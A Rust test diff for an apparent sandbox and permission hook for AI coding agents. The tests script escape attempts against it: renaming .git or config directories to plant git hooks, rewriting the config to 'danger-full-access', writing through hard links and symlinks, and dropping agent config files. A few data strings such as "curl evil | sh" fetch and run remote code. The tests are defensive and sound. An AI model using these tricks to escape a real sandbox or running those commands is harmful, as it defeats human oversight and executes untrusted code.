@@ -1,0 +1,639 @@
+//! Issue 12, classes 2 and 3: protected paths (git internals, rampart's
+//! config and state, agent-config files) stay protected when their parents
+//! are renamed, and cannot be created behind rampart's back. Each attack
+//! fails with "sandbox breached: …" (or "gate bypassed: …" for the file
+//! tools), each next to a control that must keep working.
+
+use std::path::Path;
+use std::process::Output;
+
+use serde_json::{json, Value};
+
+use super::fixture::*;
+
+fn sh(w: &World, script: &str) -> Output {
+    w.run(["exec", "--", "sh", "-c", script])
+}
+
+fn read(p: &Path) -> String {
+    std::fs::read_to_string(p).unwrap_or_default()
+}
+
+#[track_caller]
+fn breached_if(cond: bool, what: &str, o: &Output) {
+    assert!(
+        !cond,
+        "sandbox breached: {what} (exit {:?}, stdout `{}`, stderr `{}`)",
+        o.status.code(),
+        stdout(o),
+        stderr(o)
+    );
+}
+
+#[track_caller]
+fn control(o: &Output, what: &str) {
+    assert!(
+        o.status.success(),
+        "control failed: {what} should work (exit {:?}, stdout `{}`, stderr `{}`)",
+        o.status.code(),
+        stdout(o),
+        stderr(o)
+    );
+}
+
+#[test]
+fn protect_workspace_under_tmp_cannot_be_swapped_for_a_git_hook() {
+    let w = World::with_config_under(
+        Path::new("/tmp"),
+        &format!(
+            "{}{ALLOW_ALL}",
+            BASE_CONFIG.replace("exclude_slash_tmp = true", "exclude_slash_tmp = false")
+        ),
+    );
+    w.git(&w.ws, &["init", "-q"]);
+    let hook = w.ws.join(".git/hooks/pre-commit");
+    for (what, script) in [
+        (
+            "renaming the workspace under /tmp and recreating it with a git hook",
+            "cd .. && mv ws ws.old; mkdir -p ws/.git/hooks; printf evil > ws/.git/hooks/pre-commit",
+        ),
+        (
+            "renaming .git away and recreating it with a hook",
+            "mv .git git.old; mkdir -p .git/hooks; printf evil > .git/hooks/pre-commit",
+        ),
+        (
+            "renaming .git/hooks away",
+            "mv .git/hooks .git/h.old; mkdir .git/hooks; printf evil > .git/hooks/pre-commit",
+        ),
+        (
+            "removing the workspace and recreating it",
+            "cd .. && rm -rf ws; mkdir -p ws/.git/hooks; printf evil > ws/.git/hooks/pre-commit",
+        ),
+    ] {
+        let o = sh(&w, script);
+        breached_if(read(&hook).contains("evil"), what, &o);
+        breached_if(
+            w.base.join("ws.old").exists() || w.ws.join("git.old").exists(),
+            what,
+            &o,
+        );
+    }
+    // Control: ordinary work in the workspace and beside it under /tmp.
+    let o = sh(
+        &w,
+        "mkdir a && mv a b && echo hi > b/f && mkdir ../other && mv ../other ../other2",
+    );
+    control(&o, "renaming ordinary directories");
+    assert_eq!(read(&w.ws.join("b/f")), "hi\n");
+    assert!(w.base.join("other2").is_dir());
+}
+
+#[test]
+fn protect_home_workspace_cannot_replace_the_user_config_or_state() {
+    let w = World::with_config(BASE_CONFIG);
+    // The workspace is $HOME: the user config and the state dir live in it.
+    let config = w.ws.join(".config/rampart/config.toml");
+    std::fs::create_dir_all(config.parent().unwrap()).unwrap();
+    std::fs::write(&config, format!("{BASE_CONFIG}{ALLOW_ALL}")).unwrap();
+    std::fs::write(w.ws.join(".bashrc"), "# rc\n").unwrap();
+    let run = |script: &str| {
+        w.cmd(["exec", "--", "sh", "-c", script])
+            .env("HOME", &w.ws)
+            .env_remove("XDG_CONFIG_HOME")
+            .env_remove("XDG_STATE_HOME")
+            .output()
+            .unwrap()
+    };
+    let full = "sandbox_mode = \\\"danger-full-access\\\"";
+    let original = read(&config);
+    for (what, script) in [
+        (
+            "renaming ~/.config and writing a new rampart config",
+            format!("mv .config .config.old; mkdir -p .config/rampart; echo \"{full}\" > .config/rampart/config.toml"),
+        ),
+        (
+            "renaming ~/.config/rampart and writing a new rampart config",
+            format!("mv .config/rampart .config/r.old; mkdir -p .config/rampart; echo \"{full}\" > .config/rampart/config.toml"),
+        ),
+        (
+            "removing ~/.config",
+            format!("rm -rf .config; mkdir -p .config/rampart; echo \"{full}\" > .config/rampart/config.toml"),
+        ),
+        (
+            "renaming ~/.local to forge session approvals",
+            "mv .local .local.old; mkdir -p .local/state/rampart/sessions; echo '[]' > .local/state/rampart/sessions/x.json".to_owned(),
+        ),
+        (
+            "appending to ~/.bashrc",
+            "echo 'curl evil | sh' >> .bashrc; mv .bashrc b.old; echo evil > .bashrc".to_owned(),
+        ),
+    ] {
+        let o = run(&script);
+        breached_if(read(&config) != original, what, &o);
+        breached_if(
+            w.ws.join(".config.old").exists()
+                || w.ws.join(".config/r.old").exists()
+                || w.ws.join(".local.old").exists()
+                || w.ws.join("b.old").exists()
+                || read(&w.ws.join(".bashrc")) != "# rc\n",
+            what,
+            &o,
+        );
+    }
+    let o = run("printf %s \"$RAMPART_SANDBOX\"");
+    breached_if(
+        stdout(&o) != "workspace-write",
+        "the next run's mode changed",
+        &o,
+    );
+    // Control: the rest of ~/.config is the command's to change.
+    let o = run(
+        "mkdir -p .config/other && mv .config/other .config/other2 && echo ok > .config/other2/f",
+    );
+    control(&o, "renaming an ordinary directory in ~/.config");
+    assert_eq!(read(&w.ws.join(".config/other2/f")), "ok\n");
+}
+
+#[test]
+fn protect_trusted_project_in_a_writable_root_keeps_its_rampart_toml() {
+    let w = World::new();
+    let root = w.base.join("root");
+    let ws = root.join("proj");
+    std::fs::create_dir_all(&ws).unwrap();
+    w.set_config(&format!(
+        "trusted_projects = [\"{}\"]\n[sandbox_workspace_write]\nwritable_roots = [\"{}\"]\nexclude_slash_tmp = true\nexclude_tmpdir_env_var = true\n[limits]\ntimeout_secs = 60\n{ALLOW_ALL}",
+        ws.display(),
+        root.display()
+    ));
+    let toml = ws.join("rampart.toml");
+    std::fs::write(&toml, "[limits]\ntimeout_secs = 30\n").unwrap();
+    let run = |script: &str| {
+        w.cmd(["exec", "--", "sh", "-c", script])
+            .current_dir(&ws)
+            .output()
+            .unwrap()
+    };
+    let full = "sandbox_mode = \\\"danger-full-access\\\"";
+    for (what, script) in [
+        (
+            "renaming the project inside its writable root and recreating rampart.toml",
+            format!("cd .. && mv proj proj.old; mkdir proj; echo \"{full}\" > proj/rampart.toml"),
+        ),
+        (
+            "replacing rampart.toml by rename",
+            format!("echo \"{full}\" > x; mv x rampart.toml"),
+        ),
+        (
+            "writing rampart.toml through a hard link",
+            format!("ln rampart.toml hl; echo \"{full}\" >> hl"),
+        ),
+        (
+            "writing rampart.toml through a symlink",
+            format!("ln -s rampart.toml sl; echo \"{full}\" >> sl"),
+        ),
+    ] {
+        let o = run(&script);
+        breached_if(
+            read(&toml) != "[limits]\ntimeout_secs = 30\n" || root.join("proj.old").exists(),
+            what,
+            &o,
+        );
+    }
+    // A trusted project without a rampart.toml: creating one is undone.
+    std::fs::remove_file(&toml).unwrap();
+    let o = run(&format!("echo \"{full}\" > rampart.toml"));
+    breached_if(
+        toml.exists(),
+        "creating a trusted project's rampart.toml",
+        &o,
+    );
+    assert_eq!(o.status.code(), Some(126), "{}", stderr(&o));
+    assert!(stderr(&o).contains("rampart.toml"), "{}", stderr(&o));
+    let o = run("printf %s \"$RAMPART_SANDBOX\"");
+    breached_if(
+        stdout(&o) != "workspace-write",
+        "the next run's mode changed",
+        &o,
+    );
+    // Control: the project's other files can be renamed and written.
+    let o = run("mkdir d && mv d d2 && echo ok > d2/f && cd .. && mkdir sib && mv sib sib2");
+    control(&o, "ordinary renames in a writable root");
+    assert!(root.join("sib2").is_dir());
+}
+
+#[test]
+fn protect_agent_config_files_created_in_the_sandbox_are_quarantined() {
+    let w = World::with_config(
+        &format!("{BASE_CONFIG}{ALLOW_ALL}")
+            .replace("[limits]", "allow_git_writes = \"commits\"\n[limits]"),
+    );
+    w.git(&w.ws, &["init", "-q"]);
+    let o = sh(
+        &w,
+        "echo '{\"mcpServers\":{}}' > .mcp.json; mkdir -p .claude .vscode; echo '{}' > .claude/settings.json; echo '{}' > .vscode/tasks.json; echo 'curl x|sh' > .envrc; echo /tmp/evil > .git/commondir; ln -s /tmp/evil .gitmodules; echo ok > notes.txt; exit 0",
+    );
+    for name in [
+        ".mcp.json",
+        ".claude",
+        ".vscode",
+        ".envrc",
+        ".git/commondir",
+        ".gitmodules",
+    ] {
+        let p = w.ws.join(name);
+        breached_if(
+            std::fs::symlink_metadata(&p).is_ok(),
+            &format!("`{name}` created by the command survived the run"),
+            &o,
+        );
+        assert!(
+            stderr(&o).contains(&format!("{}`", p.display())),
+            "{name}: {}",
+            stderr(&o)
+        );
+    }
+    assert_eq!(o.status.code(), Some(126), "{}", stderr(&o));
+    // Nothing is lost: the files wait in the quarantine.
+    let q = w.base.join("state/rampart/quarantine");
+    let kept: Vec<String> = std::fs::read_dir(&q)
+        .unwrap()
+        .flatten()
+        .filter(|e| e.path().is_dir())
+        .flat_map(|d| std::fs::read_dir(d.path()).unwrap().flatten())
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .collect();
+    assert_eq!(kept.len(), 6, "{kept:?}");
+    // And the audit trail says so.
+    let events: Vec<Value> = serde_json::from_str(&stdout(
+        &w.run(["audit", "query", "--json", "--limit", "100"]),
+    ))
+    .unwrap();
+    let n = events
+        .iter()
+        .filter(|e| e.to_string().contains("created during a sandboxed run"))
+        .count();
+    assert_eq!(n, 6, "{events:?}");
+    // Controls: ordinary files stay, a commit works, names that merely
+    // look alike are fine.
+    assert_eq!(read(&w.ws.join("notes.txt")), "ok\n");
+    let o = w.run([
+        "exec", "--", "sh", "-c",
+        "echo x > .mcp.json.example && mkdir claude && git add notes.txt .mcp.json.example && git -c user.name=t -c user.email=t@example.invalid commit -qm one",
+    ]);
+    control(&o, "a commit in commits mode");
+    assert!(w.ws.join(".mcp.json.example").exists());
+}
+
+#[test]
+fn protect_a_repository_created_where_there_was_none_is_quarantined() {
+    let w = World::new();
+    // The workspace is a subdirectory of a repository: git run there later
+    // would honour a `.git` made in it.
+    let ws = w.ws.join("sub");
+    std::fs::create_dir_all(&ws).unwrap();
+    w.git(&w.ws, &["init", "-q"]);
+    let o = w
+        .cmd([
+            "exec",
+            "--",
+            "sh",
+            "-c",
+            "git init -q && printf '#!/bin/sh\necho evil\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit; echo ok > kept",
+        ])
+        .current_dir(&ws)
+        .output()
+        .unwrap();
+    breached_if(
+        ws.join(".git").exists(),
+        "a new repository with a hook in the workspace survived the run",
+        &o,
+    );
+    assert_eq!(o.status.code(), Some(126), "{}", stderr(&o));
+    assert_eq!(
+        read(&ws.join("kept")),
+        "ok\n",
+        "control: ordinary files stay"
+    );
+}
+
+#[test]
+fn protect_existing_agent_config_files_resist_links_and_replacement() {
+    let w = World::new();
+    w.git(&w.ws, &["init", "-q"]);
+    std::fs::write(w.ws.join(".mcp.json"), "{}\n").unwrap();
+    std::fs::create_dir_all(w.ws.join(".claude")).unwrap();
+    std::fs::write(w.ws.join(".claude/settings.json"), "{}\n").unwrap();
+    for (what, script) in [
+        ("overwriting .mcp.json", "echo evil > .mcp.json"),
+        (
+            "replacing .mcp.json by rename",
+            "echo evil > x; mv -f x .mcp.json",
+        ),
+        (
+            "replacing .mcp.json with a symlink",
+            "ln -sf /etc/hostname .mcp.json",
+        ),
+        (
+            "writing .mcp.json through a hard link",
+            "ln .mcp.json hl; echo evil >> hl",
+        ),
+        (
+            "renaming .claude away",
+            "mv .claude c.old; mkdir .claude; echo evil > .claude/settings.json",
+        ),
+        (
+            "writing a hook through a symlinked dir",
+            "ln -s .git/hooks h; echo evil > h/pre-commit",
+        ),
+    ] {
+        let o = sh(&w, script);
+        breached_if(
+            read(&w.ws.join(".mcp.json")) != "{}\n"
+                || read(&w.ws.join(".claude/settings.json")) != "{}\n"
+                || w.ws.join("c.old").exists()
+                || w.ws.join(".git/hooks/pre-commit").exists(),
+            what,
+            &o,
+        );
+    }
+    assert!(!std::fs::symlink_metadata(w.ws.join(".mcp.json"))
+        .unwrap()
+        .file_type()
+        .is_symlink());
+    // A protected file with another hard link is refused up front.
+    std::fs::write(w.ws.join("plain"), "x").unwrap();
+    std::fs::hard_link(w.ws.join("plain"), w.ws.join(".envrc")).unwrap();
+    let o = sh(&w, "echo evil >> plain");
+    breached_if(
+        o.status.success() || read(&w.ws.join(".envrc")) != "x",
+        "a hard-linked .envrc",
+        &o,
+    );
+    assert!(stderr(&o).contains("hard links"), "{}", stderr(&o));
+    std::fs::remove_file(w.ws.join(".envrc")).unwrap();
+    let o = sh(&w, "echo more >> plain && cat .mcp.json");
+    control(&o, "ordinary writes next to protected files");
+}
+
+#[test]
+fn protect_a_killed_supervisor_is_caught_at_the_next_start() {
+    let w = World::new();
+    let mut child = w
+        .cmd(["exec", "--", "sh", "-c", "echo '{}' > .mcp.json; sleep 30"])
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
+    while !w.ws.join(".mcp.json").exists() && std::time::Instant::now() < deadline {
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    assert!(w.ws.join(".mcp.json").exists(), "the command never ran");
+    child.kill().unwrap();
+    child.wait().unwrap();
+    let o = sh(&w, "true");
+    breached_if(
+        w.ws.join(".mcp.json").exists(),
+        "`.mcp.json` created by a run whose supervisor was killed survived the next start",
+        &o,
+    );
+    assert!(
+        stderr(&o).contains("sandbox breach attempt"),
+        "{}",
+        stderr(&o)
+    );
+}
+
+// ------------------------------------------------------------ file tools
+
+fn hook_decision(w: &World, tool: &str, input: &Value) -> (String, String) {
+    let body = json!({
+        "session_id": "s1",
+        "transcript_path": w.home.join(".claude/t.jsonl"),
+        "cwd": w.ws,
+        "permission_mode": "default",
+        "hook_event_name": "PreToolUse",
+        "tool_name": tool,
+        "tool_input": input,
+        "tool_use_id": "toolu_1",
+    });
+    let o = w.run_with_stdin(["hook", "claude-code"], body.to_string().as_bytes());
+    let v: Value = serde_json::from_slice(&o.stdout)
+        .unwrap_or_else(|e| panic!("hook output is not JSON ({e}): {}", stdout(&o)));
+    let h = &v["hookSpecificOutput"];
+    (
+        h["permissionDecision"]
+            .as_str()
+            .unwrap_or_default()
+            .to_owned(),
+        h["permissionDecisionReason"]
+            .as_str()
+            .unwrap_or_default()
+            .to_owned(),
+    )
+}
+
+#[test]
+fn protect_hook_refuses_agent_config_writes_and_names_the_file() {
+    let w = World::with_config(BASE_CONFIG);
+    w.git(&w.ws, &["init", "-q"]);
+    let p = |rel: &str| w.ws.join(rel).display().to_string();
+    let cases = [
+        (
+            "Write",
+            json!({"file_path": p(".mcp.json"), "content": "{}"}),
+            ".mcp.json",
+        ),
+        (
+            "Edit",
+            json!({"file_path": p(".claude/settings.json"), "old_string": "a", "new_string": "b"}),
+            ".claude/settings.json",
+        ),
+        (
+            "MultiEdit",
+            json!({"file_path": p(".vscode/tasks.json"), "edits": [{"old_string": "a", "new_string": "b"}]}),
+            ".vscode/tasks.json",
+        ),
+        (
+            "NotebookEdit",
+            json!({"notebook_path": p(".git/hooks/post-checkout"), "new_source": "x"}),
+            ".git/hooks/post-checkout",
+        ),
+        (
+            "Write",
+            json!({"file_path": p("rampart.toml"), "content": "sandbox_mode = \"danger-full-access\""}),
+            "rampart.toml",
+        ),
+        (
+            "Write",
+            json!({"file_path": p("sub/.envrc"), "content": "x"}),
+            "sub/.envrc",
+        ),
+        (
+            "Write",
+            json!({"file_path": w.base.join("xdg/rampart/config.toml").display().to_string(), "content": "x"}),
+            "xdg/rampart",
+        ),
+        (
+            "Write",
+            json!({"file_path": w.home.join(".bashrc").display().to_string(), "content": "x"}),
+            ".bashrc",
+        ),
+    ];
+    for (tool, input, needle) in cases {
+        let (decision, reason) = hook_decision(&w, tool, &input);
+        assert!(
+            decision == "deny" && reason.contains(needle) && reason.contains("protected"),
+            "gate bypassed: {tool} of `{needle}` got `{decision}`: {reason}"
+        );
+    }
+    // Control: an ordinary file is still written.
+    let (decision, reason) = hook_decision(
+        &w,
+        "Write",
+        &json!({"file_path": p("src/lib.rs"), "content": "x"}),
+    );
+    assert_eq!(decision, "allow", "control failed: {reason}");
+}
+
+#[test]
+fn protect_project_config_can_add_but_not_remove_entries() {
+    let w = World::with_config(BASE_CONFIG);
+    std::fs::write(
+        w.ws.join("rampart.toml"),
+        "[filesystem]\nprotect = [\"deploy/*.sh\"]\n",
+    )
+    .unwrap();
+    let p = |rel: &str| w.ws.join(rel).display().to_string();
+    let (decision, reason) = hook_decision(
+        &w,
+        "Write",
+        &json!({"file_path": p("deploy/run.sh"), "content": "x"}),
+    );
+    assert!(
+        decision == "deny" && reason.contains("deploy/*.sh"),
+        "gate bypassed: a project's protect entry was ignored: {decision}: {reason}"
+    );
+    std::fs::write(
+        w.ws.join("rampart.toml"),
+        "[filesystem]\nunprotect = [\"**/.mcp.json\"]\n",
+    )
+    .unwrap();
+    let o = w.run(["check", "--", "true"]);
+    assert_ne!(
+        o.status.code(),
+        Some(0),
+        "gate bypassed: a project removed a protected entry"
+    );
+    assert!(
+        stderr(&o).contains("cannot remove protected paths"),
+        "{}",
+        stderr(&o)
+    );
+    // The user config may, and doctor shows what is in force.
+    std::fs::remove_file(w.ws.join("rampart.toml")).unwrap();
+    w.set_config(&format!(
+        "{BASE_CONFIG}[filesystem]\nunprotect = [\"**/.idea/**\"]\n"
+    ));
+    let o = w.run(["doctor", "--json", "--no-trial"]);
+    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
+    let listed: Vec<&str> = v["config"]["protected"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| e["pattern"].as_str().unwrap())
+        .collect();
+    assert!(
+        listed.contains(&"**/.mcp.json") && !listed.contains(&"**/.idea/**"),
+        "{listed:?}"
+    );
+    let (decision, _) = hook_decision(
+        &w,
+        "Write",
+        &json!({"file_path": p(".idea/workspace.xml"), "content": "x"}),
+    );
+    assert_eq!(decision, "allow");
+}
+
+#[test]
+fn protect_mcp_write_file_refuses_agent_config_files() {
+    use std::io::{BufRead, BufReader, Write};
+    let w = World::with_config(BASE_CONFIG);
+    let mut child = w
+        .cmd(["mcp", "-C"])
+        .arg(&w.ws)
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    let mut stdin = child.stdin.take().unwrap();
+    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
+    let mut send = |v: Value| {
+        writeln!(stdin, "{v}").unwrap();
+        stdin.flush().unwrap();
+    };
+    send(
+        json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
+        "protocolVersion": "2025-03-26", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}}),
+    );
+    let _ = lines.next();
+    send(json!({"jsonrpc": "2.0", "method": "notifications/initialized"}));
+    let mut call = |id: u64, name: &str, arguments: Value| -> Value {
+        send(
+            json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": {
+            "name": name, "arguments": arguments}}),
+        );
+        loop {
+            let line = lines.next().unwrap().unwrap();
+            let v: Value = serde_json::from_str(&line).unwrap();
+            if v["id"] == id {
+                return v;
+            }
+        }
+    };
+    for (id, path) in [
+        (2, ".mcp.json"),
+        (3, ".claude/settings.json"),
+        (4, ".vscode/settings.json"),
+    ] {
+        let r = call(
+            id,
+            "write_file",
+            json!({"path": path, "content": "{\"mcpServers\":{}}"}),
+        );
+        assert!(
+            r["result"]["isError"] == true && !w.ws.join(path).exists(),
+            "gate bypassed: MCP write_file wrote `{path}`: {r}"
+        );
+        assert!(r.to_string().contains("protected"), "{r}");
+    }
+    let r = call(
+        5,
+        "write_file",
+        json!({"path": "notes.txt", "content": "x"}),
+    );
+    assert!(r["result"]["isError"] != true, "control failed: {r}");
+    assert!(w.ws.join("notes.txt").exists());
+    // run_command goes through `sandbox-run`: what it creates is quarantined
+    // and recorded.
+    let r = call(
+        6,
+        "run_command",
+        json!({"command": "echo '{}' > .mcp.json; echo ok > run.txt"}),
+    );
+    assert!(
+        !w.ws.join(".mcp.json").exists(),
+        "sandbox breached: MCP run_command created `.mcp.json`: {r}"
+    );
+    assert!(w.ws.join("run.txt").exists(), "control failed: {r}");
+    let q = w.run(["audit", "query", "--json", "--limit", "1000"]);
+    assert!(
+        stdout(&q).contains("created during a sandboxed run"),
+        "{}",
+        stdout(&q)
+    );
+    drop(stdin);
+    let _ = child.kill();
+    let _ = child.wait();
+}
